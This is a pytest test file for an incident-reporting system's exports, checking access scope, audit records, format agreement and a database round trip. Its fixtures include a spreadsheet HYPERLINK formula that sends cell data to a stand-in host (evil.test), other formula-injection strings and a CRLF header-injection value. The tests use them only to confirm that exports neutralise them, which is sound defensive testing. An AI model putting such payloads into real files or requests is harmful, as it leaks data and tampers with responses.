"""Exports through the portal, the API and the CLI: exactly what the caller may see (C5), no
other member's H2 reports (C7), inert formulas (D2), a safe file name (D5), audited per owner,
and a round trip into an empty database that reproduces every report."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq
import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import create_engine, select
from sqlalchemy.orm import Session

from rcf.access.roles import Role
from rcf.access.sharing import shared_with_codes
from rcf.accounts.auth import actor_for_user
from rcf.audit.models import AuditAction, AuditEntry
from rcf.db import make_session_factory
from rcf.incidents import exporting
from rcf.incidents.columns import COLUMN_NAMES, from_flat
from rcf.incidents.export_parquet import report_from_row
from rcf.incidents.exporting import restore_row
from rcf.incidents.models import Incident
from rcf.incidents.schemas import IncidentIn
from rcf.incidents.service import incident_content, save_imported
from rcf.models import Base
from rcf.runtime import Runtime
from rcf.settings import Settings
from tests.factories import (
    World,
    api_token,
    make_agency,
    make_incident,
    make_member,
    make_user,
    sign_in,
)
from tests.functional.test_cli import rcf_cli

FORMATS = ["csv", "xlsx", "json", "parquet"]
NEXT_YEAR = (date.today() + timedelta(days=365)).isoformat()
HYPERLINK = '=HYPERLINK("http://evil.test/?x="&A1,"Click")'


@pytest.fixture
def reports(db: Session, world: World) -> dict[str, Incident]:
    """A's reports of every visibility (one H2, one with formula-like text), B's and C's."""
    a, b, c = (world.persona(m, Role.CONTRIBUTOR) for m in "ABC")
    made = {
        "a_regional": make_incident(
            db, a, reference="A-REG", narrative=HYPERLINK, location_name="+cmd",
            checkpoint="@SUM(A1)", vehicle_type="-2+3",
            sharing={"visibility": "regional", "review_date": NEXT_YEAR},
        ),
        "a_national": make_incident(db, a, reference="A-NAT", sharing={"visibility": "national"}),
        "a_members_b": make_incident(
            db, a, reference="A-TO-B",
            sharing={"visibility": "members", "shared_with": ["IDN", "RSO"]},
        ),
        "a_h2": make_incident(
            db, a, reference="A-H2", sharing={"visibility": "regional", "handling_code": "H2"}
        ),
        "a_h3": make_incident(
            db, a, reference="A-H3", occurred_time="04:30",
            sharing={"visibility": "regional", "handling_code": "H3",
                     "handling_restriction": "Not to the press."},
        ),
        "b_regional": make_incident(db, b, reference="B-REG"),
        "c_national": make_incident(db, c, reference="C-NAT", sharing={"visibility": "national"}),
    }  # fmt: skip
    db.commit()
    return {key: incident for key, incident in made.items() if isinstance(incident, Incident)}


# --- Reading the files back ---------------------------------------------------------------------


def read_export(fmt: str, data: bytes) -> list[dict[str, Any]]:
    """The reports of an export file in the JSON shape (CSV and XLSX through the import's path)."""
    if fmt == "json":
        reports: list[dict[str, Any]] = json.loads(data)["reports"]
        return reports
    if fmt == "parquet":
        return [report_from_row(row) for row in pq.read_table(io.BytesIO(data)).to_pylist()]
    return [from_flat(row) for row in flat_rows(fmt, data)]


def flat_rows(fmt: str, data: bytes) -> list[dict[str, str]]:
    if fmt == "csv":
        rows = csv.DictReader(io.StringIO(data.decode("utf-8-sig")))
        return [restore_row(row) for row in rows]
    sheet = load_workbook(io.BytesIO(data), read_only=True).active
    values = list(sheet.iter_rows(values_only=True))
    header = [str(name) for name in values[0]]
    return [{k: str(v or "") for k, v in zip(header, row, strict=True)} for row in values[1:]]


def references(fmt: str, data: bytes) -> set[str]:
    return {report["reference"] for report in read_export(fmt, data)}


def web_export(client: TestClient, world: World, member: str, fmt: str, query: str = "") -> Any:
    """Sign in as the member's viewer (afresh) and download an export."""
    client.cookies.clear()
    sign_in(client, world.persona(member, Role.VIEWER))
    response = client.get(f"/incidents/export.{fmt}{query}")
    assert response.status_code == 200, response.text
    return response


# --- Scope (C5, C7) -----------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", FORMATS)
def test_b_exports_what_b_may_see_and_no_h2_of_a(
    fmt: str,
    client: TestClient,
    world: World,
    reports: dict[str, Incident],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(exporting, "BATCH_SIZE", 2)  # several keyset batches, row groups
    response = web_export(client, world, "B", fmt)
    assert references(fmt, response.content) == {"A-REG", "A-TO-B", "A-H3", "B-REG"}
    assert response.headers["x-rcf-left-out"] == "1"
    assert response.headers["x-rcf-exported"] == "4"


@pytest.mark.parametrize("fmt", FORMATS)
def test_c_exports_only_its_own(
    fmt: str, client: TestClient, world: World, reports: dict[str, Incident]
) -> None:
    response = web_export(client, world, "C", fmt)
    assert references(fmt, response.content) == {"C-NAT"}
    assert response.headers["x-rcf-left-out"] == "0"


def test_only_the_owner_learns_whom_a_report_is_shared_with(
    client: TestClient, world: World, reports: dict[str, Incident]
) -> None:
    b_view = {
        r["reference"]: r
        for r in read_export("json", web_export(client, world, "B", "json").content)
    }
    assert b_view["A-TO-B"]["sharing"]["shared_with"] == []
    assert b_view["A-TO-B"]["owner_member"] == "THA"
    a_view = {
        r["reference"]: r
        for r in read_export("json", web_export(client, world, "A", "json").content)
    }
    assert a_view["A-TO-B"]["sharing"]["shared_with"] == ["IDN", "RSO"]
    assert set(a_view) == {"A-REG", "A-NAT", "A-TO-B", "A-H2", "A-H3", "B-REG"}


def test_the_json_export_says_how_many_were_left_out_and_why(
    client: TestClient, world: World, reports: dict[str, Incident]
) -> None:
    document = web_export(client, world, "B", "json").json()
    assert document["left_out"]["count"] == 1
    assert "H2" in document["left_out"]["reason"]


def test_the_page_shows_the_counts_and_the_links_keep_the_filters(
    client: TestClient, world: World, reports: dict[str, Incident]
) -> None:
    sign_in(client, world.persona("B", Role.VIEWER))
    page = client.get("/incidents/export?country=IDN&kind=maritime_interception")
    assert page.status_code == 200
    assert "will be left out" in page.text
    assert 'href="/incidents/export.xlsx?kind=maritime_interception&amp;country=IDN"' in page.text


def test_filters_narrow_the_export(
    client: TestClient, world: World, reports: dict[str, Incident]
) -> None:
    response = web_export(client, world, "A", "csv", "?mine=true")
    assert references("csv", response.content) == {"A-REG", "A-NAT", "A-TO-B", "A-H2", "A-H3"}
    assert client.get("/incidents/export.csv?kind=nonsense").status_code in (400, 422)


@pytest.mark.parametrize("fmt", FORMATS)
def test_the_api_exports_within_the_token_scope(
    fmt: str,
    client: TestClient,
    db: Session,
    runtime: Runtime,
    world: World,
    reports: dict[str, Incident],
) -> None:
    token = api_token(db, runtime, world.persona("B", Role.VIEWER), ["incident:read"])
    response = client.get(
        f"/api/v1/incidents/export?format={fmt}", headers={"Authorization": f"Bearer {token}"}
    )
    assert response.status_code == 200, response.text
    assert references(fmt, response.content) == {"A-REG", "A-TO-B", "A-H3", "B-REG"}


def test_a_token_without_incident_scope_cannot_export(
    client: TestClient, db: Session, runtime: Runtime, world: World, reports: dict[str, Incident]
) -> None:
    token = api_token(db, runtime, world.persona("B", Role.VIEWER), ["bulletin:read"])
    response = client.get("/api/v1/incidents/export", headers={"Authorization": f"Bearer {token}"})
    assert response.status_code == 403


# --- Formula injection (D2) and file names (D5) -------------------------------------------------


def test_formulas_are_inert_in_csv(
    client: TestClient, world: World, reports: dict[str, Incident]
) -> None:
    data = web_export(client, world, "A", "csv").content
    rows = {r["reference"]: r for r in csv.DictReader(io.StringIO(data.decode("utf-8-sig")))}
    row = rows["A-REG"]
    assert row["narrative"] == "'" + HYPERLINK
    assert row["location_name"] == "'+cmd"
    assert row["checkpoint"] == "'@SUM(A1)"
    assert row["vehicle_type"] == "'-2+3"
    assert row["latitude"] == "-10.9"  # a negative number stays a number


def test_formulas_are_string_cells_in_xlsx(
    client: TestClient, world: World, reports: dict[str, Incident]
) -> None:
    sheet = load_workbook(io.BytesIO(web_export(client, world, "A", "xlsx").content)).active
    header = [cell.value for cell in sheet[1]]
    assert tuple(header) == COLUMN_NAMES
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value]
    assert cells
    assert all(cell.data_type == "s" for cell in cells)
    assert HYPERLINK in {cell.value for cell in cells}


@pytest.mark.parametrize("fmt", FORMATS)
def test_the_download_has_a_safe_file_name(
    fmt: str, client: TestClient, world: World, reports: dict[str, Incident]
) -> None:
    response = web_export(client, world, "A", fmt, "?q=%0d%0aSet-Cookie:%20x=1")
    disposition = response.headers["content-disposition"]
    assert not {"\r", "\n"} & set(disposition)
    assert "Set-Cookie" not in disposition
    assert disposition.startswith('attachment; filename="incidents-tha-')
    assert disposition.endswith(f'.{fmt}"')


# --- JSON and Parquet agree ---------------------------------------------------------------------


def test_json_and_parquet_hold_the_same_content(
    client: TestClient, world: World, reports: dict[str, Incident]
) -> None:
    as_json = read_export("json", web_export(client, world, "A", "json").content)
    as_parquet = read_export("parquet", web_export(client, world, "A", "parquet").content)
    assert as_json == as_parquet
    assert len(as_json) == 6


# --- Audit --------------------------------------------------------------------------------------


def test_an_export_is_audited_once_per_owning_member(
    client: TestClient, db: Session, world: World, reports: dict[str, Incident]
) -> None:
    web_export(client, world, "B", "csv", "?country=IDN")
    db.expire_all()
    entries = list(
        db.scalars(
            select(AuditEntry)
            .where(AuditEntry.action == AuditAction.RECORD_EXPORTED)
            .order_by(AuditEntry.object_member_id)
        )
    )
    a, b = world.members["A"].id, world.members["B"].id
    by_owner = {entry.object_member_id: entry for entry in entries}
    assert set(by_owner) == {a, b}
    assert len(entries) == 2
    assert by_owner[a].changes["exported"] == 3
    assert by_owner[a].changes["left_out_h2"] == 1
    assert by_owner[a].changes["format"] == "csv"
    assert by_owner[a].changes["filters"] == {"country": "IDN"}
    assert by_owner[b].changes["exported"] == 1
    assert all(e.actor_label == world.persona("B", Role.VIEWER).email for e in entries)


# --- Round trip ---------------------------------------------------------------------------------


@pytest.fixture
def empty_database(tmp_path: Path, test_settings: Settings) -> Iterator[Session]:
    """A second, empty database with the same members, to import an export into."""
    engine = create_engine(f"sqlite:///{tmp_path / 'target.sqlite3'}")
    Base.metadata.create_all(engine)
    session = make_session_factory(engine, secret_key=test_settings.resolved_secret_key)()
    try:
        yield session
    finally:
        session.close()
        engine.dispose()


def full_content(session: Session, incident: Incident) -> dict[str, Any]:
    sharing = {
        **{k: str(v) if v is not None else None for k, v in incident.sharing_fields().items()},
        "shared_with": shared_with_codes(session, incident),
    }
    return {**incident_content(incident), "sharing": sharing}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_export_imported_into_an_empty_database_reproduces_every_report(
    fmt: str,
    client: TestClient,
    db: Session,
    runtime: Runtime,
    world: World,
    reports: dict[str, Incident],
    empty_database: Session,
) -> None:
    rows = flat_rows(fmt, web_export(client, world, "A", fmt, "?mine=true").content)
    target = empty_database
    for code in ("THA", "IDN", "MYS", "RSO"):
        make_member(target, code)
    agency = make_agency(target, target.scalars(select_member("THA")).one())
    importer = make_user(target, runtime, agency, Role.CONTRIBUTOR)
    actor = actor_for_user(importer.user)
    for row in rows:
        save_imported(target, actor, IncidentIn.model_validate(from_flat(row)))
    target.commit()
    db.expire_all()
    originals = {
        i.reference: full_content(db, i) for i in reports.values() if i.reference[0] == "A"
    }
    copies = {i.reference: full_content(target, i) for i in target.scalars(select(Incident))}
    assert copies == originals
    assert len(copies) == 5


def select_member(code: str) -> Any:
    from rcf.members.models import Member

    return select(Member).where(Member.code == code)


# --- Command line -------------------------------------------------------------------------------


def test_the_cli_exports_as_the_named_user(
    tmp_path: Path, test_settings: Settings, world: World, reports: dict[str, Incident]
) -> None:
    output = tmp_path / "b.json"
    email = world.persona("B", Role.VIEWER).email
    result = rcf_cli(
        test_settings, "incidents", "export", "--format", "json", "-o", str(output),
        "--as-user", email,
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    assert references("json", output.read_bytes()) == {"A-REG", "A-TO-B", "A-H3", "B-REG"}
    assert "1 reports left out" in " ".join(result.output.split())


def test_the_cli_needs_a_user_and_refuses_an_unknown_one(
    tmp_path: Path, test_settings: Settings, world: World
) -> None:
    output = tmp_path / "x.csv"
    assert rcf_cli(test_settings, "incidents", "export", "-o", str(output)).exit_code == 2
    result = rcf_cli(
        test_settings, "incidents", "export", "-o", str(output), "--as-user", "nobody@x.test"
    )
    assert result.exit_code == 1
    assert not output.exists()
